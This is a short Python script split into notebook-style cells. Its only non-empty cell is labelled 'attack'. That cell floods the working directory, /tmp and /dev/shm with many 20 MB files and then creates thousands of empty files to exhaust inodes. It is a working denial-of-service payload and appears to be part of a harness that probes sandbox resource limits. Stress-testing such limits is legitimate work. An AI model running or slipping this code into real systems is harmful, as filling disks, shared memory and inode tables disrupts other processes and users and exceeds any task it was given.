# %% setup
# %% forward
# %% attack
import os
total = 0
for folder in (".", "/tmp", "/dev/shm"):
    try:
        for index in range(50):
            with open(f"{folder}/big{index}", "wb") as file:
                for _ in range(20):
                    total += file.write(bytes(1 << 20))
    except OSError as error:
        print(folder, error.strerror)
print("written", total >> 20, "MB")
count = 0
try:
    while count < 5_000:
        os.close(os.open(f"inode{count}", os.O_CREAT | os.O_WRONLY))
        count += 1
except OSError as error:
    print(error.strerror)
# %% backward
